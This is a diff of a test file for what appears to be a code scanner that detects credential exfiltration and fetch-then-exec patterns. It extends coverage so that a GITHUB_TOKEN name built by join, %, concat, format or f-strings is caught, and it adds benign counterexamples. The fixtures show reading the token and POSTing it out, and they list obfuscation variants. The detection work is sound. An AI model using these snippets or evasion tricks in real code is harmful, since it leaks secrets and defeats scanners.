@@ -4,8 +4,7 @@ import { describeAccepted, describeFindings, type FindingRow } from '../support/
 
 // Review 68 (branch att-safety68), attacking safety68's readings: a helper returning a fetch, a sink in a JavaScript
 // line comment, a token's name assembled from strings, hyphen-split words. Each row was first seen failing. Open rows
-// (`it.fails`, no 'closed'): R68-7's assembled names other than adjacent literals, R68-8 and R68-9 (the injection
-// detector). R68-5 and R68-6 closed by safety69.
+// (`it.fails`, no 'closed'): R68-8 and R68-9 (the injection detector). R68-5, R68-6 and R68-7's rest closed by safety69.
 
 const closed = (rows: readonly FindingRow[]): FindingRow[] => rows.map(([path, text]) => [path, text, 'closed']);
 
@@ -54,14 +53,22 @@ const CALLED_ON_RECEIVER: FindingRow[] = [
 /** R68-6 (Medium): a return after a lambda inside the def was read as the lambda's (no name): `return f()`. Closed by safety69. */
 const LAMBDA_INSIDE: FindingRow[] = [['tests/t.py', 'def get(u):\n    f = lambda: requests.get(u).text\n    return f()\n\nexec(get(u))']];
 
-/** R68-7 (High): the token's name assembled other than by two same-quoted strings. Mixed quotes, backticks, adjacent literals closed; the rest open. */
+/**
+ * R68-7 (High): the token's name assembled other than by two same-quoted strings. Mixed quotes, backticks, adjacent
+ * literals closed by safety68; the rest (a join, `%`, `.concat`, `.format`, an f-string's field) by safety69, which
+ * reads the strings formatted from literals alone as the string they make.
+ */
 const ASSEMBLED: FindingRow[] = [
   ['tests/t.py', "t = os.environ['GITHUB_' + \"TOKEN\"]\nrequests.post(u, data=t)", 'closed'],
   ['tests/t.py', "t = os.environ['GITHUB_' 'TOKEN']\nrequests.post(u, data=t)", 'closed'],
   ['test/a.test.js', 'const t = process.env[`GITHUB_` + `TOKEN`];\nawait fetch(u, { method: "POST", body: t });', 'closed'],
-  ['tests/t.py', "t = os.environ[''.join(['GITHUB_', 'TOKEN'])]\nrequests.post(u, data=t)"],
-  ['tests/t.py', "t = os.environ['GITHUB_%s' % 'TOKEN']\nrequests.post(u, data=t)"],
-  ['test/a.test.js', 'const t = process.env["GITHUB_".concat("TOKEN")];\nawait fetch(u, { method: "POST", body: t });'],
+  ['tests/t.py', "t = os.environ[''.join(['GITHUB_', 'TOKEN'])]\nrequests.post(u, data=t)", 'closed'],
+  ['tests/t.py', "t = os.environ['GITHUB_%s' % 'TOKEN']\nrequests.post(u, data=t)", 'closed'],
+  ['test/a.test.js', 'const t = process.env["GITHUB_".concat("TOKEN")];\nawait fetch(u, { method: "POST", body: t });', 'closed'],
+  ['test/a.test.js', 'const t = process.env["GITHUB_".concat("TO").concat("KEN")];\nawait fetch(u, { method: "POST", body: t });', 'closed'],
+  ['tests/t.py', "t = os.environ[f\"GITHUB_{'TOKEN'}\"]\nrequests.post(u, data=t)", 'closed'],
+  ['tests/t.py', "t = os.environ['GITHUB_{}'.format('TOKEN')]\nrequests.post(u, data=t)", 'closed'],
+  ['test/a.test.js', "const t = process.env[['GITHUB', 'TOKEN'].join('_')];\nawait fetch(u, { method: 'POST', body: t });", 'closed'],
 ];
 
 describeFindings('review 68', [
@@ -86,6 +93,10 @@ describeAccepted('review 68: ordinary code near its fixes', [
   ['tests/x.test.js', "class T {\n  static get(u) { return fetch(u).then((r) => r.text()) }\n}\neval(map.get(u));"],
   ['tests/x.test.js', "const api = {\n  get: (u) => fetch(u).then((r) => r.text()),\n};\nconst cfg = new Map();\neval(cfg.get('code'));"],
   ['tests/x.test.js', "const api = {\n  get: (u) => fetch(u).then((r) => r.status),\n};\nexpect(await api.get(u)).toBe(200);\neval('1 + 1');"],
+  // R68-7: names formatted from literals that name no secret.
+  ['tests/t.py', "t = os.environ['BUILD_%s' % 'ID']\nrequests.post(u, data=t)"],
+  ['test/a.test.js', 'const t = process.env["BUILD_".concat("ID")];\nawait fetch(u, { method: "POST", body: t });'],
+  ['test/a.test.js', "const label = 'run-'.concat('42');\nawait fetch(u, { method: 'POST', body: label });"],
   // R68-6: a lambda's result the def does not return.
   ['tests/t.py', "def get(u):\n    f = lambda: requests.get(u).status_code\n    return 1\n\nexec(get(u))"],
 ]);
